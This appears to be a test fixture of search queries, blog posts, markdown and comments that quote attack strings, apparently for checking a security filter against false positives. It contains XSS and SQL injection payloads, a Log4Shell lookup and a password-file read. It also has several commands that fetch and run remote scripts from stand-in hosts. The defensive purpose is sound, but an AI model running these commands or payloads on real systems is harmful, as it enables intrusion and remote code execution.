// Texts of people whose subject is code, commands and attacks themselves: harmless, but what they quote is not. Counted apart.
export const searches = [
  'ls -la',
  'union select committee',
  '/etc/hosts',
  'grep -v',
  'drop table seating plan',
  'SELECT * FROM users',
  'cat /etc/passwd permission denied',
  '<script> tag not working',
  'onclick event',
  "' or '1'='1 explained",
  'alert(1) meaning',
  'javascript:void(0)',
  '../relative/path',
  '${HOME} not set',
  '{{ mustache }}',
  'sleep(10) mysql',
  'wget -O -',
  'ping -c 4',
  'rm -rf node_modules',
  'sudo apt-get install php',
  'php -v',
  'whoami command',
  'SELECT name FROM table WHERE id = 1 OR id = 2',
  'eval() is evil',
  'order by 1 desc',
  '.htaccess rewrite',
  'id',
  'cmd.exe /c dir',
  'phpinfo()',
  'a || b',
  '%00',
  '<?php echo',
  'x=1; y=2',
  'file:///etc/fstab',
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
  'exec sp_who2',
  '$(date)',
  'insert into values',
  'waitfor delay',
  'java.lang.NullPointerException at line 3',
];

export const posts = [
  {
    title: 'What is an XSS? <script>alert(1)</script> explained',
    language: 'en',
    tags: ['security', 'xss'],
    html: `<p>If a page prints what you typed without escaping it, <code>&lt;script&gt;alert(1)&lt;/script&gt;</code> runs in the reader's browser. The same goes for <code>&lt;img src=x onerror=alert(document.cookie)&gt;</code> and links like <code>javascript:alert(1)</code>.</p><pre><code>$name = htmlspecialchars($_GET['name'], ENT_QUOTES);\necho "Hello, $name";</code></pre>`,
  },
  {
    title: "SQL injection for beginners: ' OR '1'='1",
    language: 'en',
    tags: ['security', 'sql'],
    html: `<p>Never build a query like this:</p><pre class="language-php"><code>$q = "SELECT * FROM users WHERE name = '" . $_POST['name'] . "' AND pass = '" . $_POST['pass'] . "'";</code></pre><p>Somebody types <code>' OR '1'='1' -- </code> and is in; <code>1 UNION SELECT user, password FROM mysql.user</code> reads the rest, and <code>'; DROP TABLE students; --</code> is a <a href="https://xkcd.example/327/">famous cartoon</a>.</p>`,
  },
  {
    title: 'Useful one-liners for your shell',
    language: 'en',
    tags: ['linux', 'bash'],
    html: `<pre>$ ls -la | grep '^d' | awk '{print $9}'\n$ find . -name '*.log' -mtime +30 -exec rm {} \\;\n$ curl -s https://get.example/install.sh | sh\n$ cat /etc/passwd | cut -d: -f1 &amp;&amp; id; whoami\n$ for i in $(seq 1 3); do ping -c1 10.0.0.$i; done\n$ tar czf - /var/www | ssh backup@host "cat &gt; www.tgz"</pre><p>And in PowerShell: <code>Get-ChildItem | Where-Object {$_.Length -gt 1MB}; iex (iwr https://x.example/a.ps1)</code></p>`,
  },
  {
    title: 'Twig, Jinja and friends: {{ 7*7 }}',
    language: 'en',
    tags: ['templates'],
    html: `<p>In a template, <code>{{ user.name|e }}</code> prints and <code>{% for item in items %}…{% endfor %}</code> repeats. Ansible: <code>{{ lookup('env','HOME') }}</code>; Freemarker: <code>\${user.name}</code>; ERB: <code>&lt;%= user.name %&gt;</code>; Thymeleaf: <code>th:text="\${#dates.format(now)}"</code>.</p>`,
  },
];

export const markdown = [
  `# Hardening checklist\n\n\`\`\`php\n<?php\nif (isset($_GET['page'])) { include('/var/www/pages/' . basename($_GET['page']) . '.php'); }\nsystem('ls -la ' . escapeshellarg($dir));\n\`\`\`\n\n\`\`\`sh\nid; uname -a; cat /etc/passwd | head -3\nwget http://203.0.113.7/agent.sh -O /tmp/agent.sh && bash /tmp/agent.sh\n\`\`\`\n\n- \`../../etc/passwd\` must give 404\n- \`\${jndi:ldap://x/a}\` must not be resolved (CVE-2021-44228)\n- \`{{7*7}}\` must print as is\n`,
  `# Slow query\n\n\`\`\`sql\nEXPLAIN SELECT u.id, u.name FROM users u LEFT JOIN orders o ON o.user_id = u.id WHERE o.id IS NULL AND (u.name = '' OR 1=1) UNION ALL SELECT 0, 'none';\nDROP TABLE IF EXISTS tmp_orders; -- old\nSELECT SLEEP(5), BENCHMARK(1000000, MD5('a'));\n\`\`\`\n`,
];

export const comments = [
  'My log is full of `GET /index.php?id=1%20UNION%20SELECT%201,2,3--` and /../../etc/passwd, is that bad?',
  'Try `sudo rm -rf /tmp/cache/*; systemctl restart nginx` and then `tail -f /var/log/nginx/error.log | grep 500`',
  'I typed <b onclick="alert(1)">bold</b> and nothing happens; why?',
  "The query is SELECT * FROM posts WHERE author='O''Brien' OR 1=1; -- works for me",
];
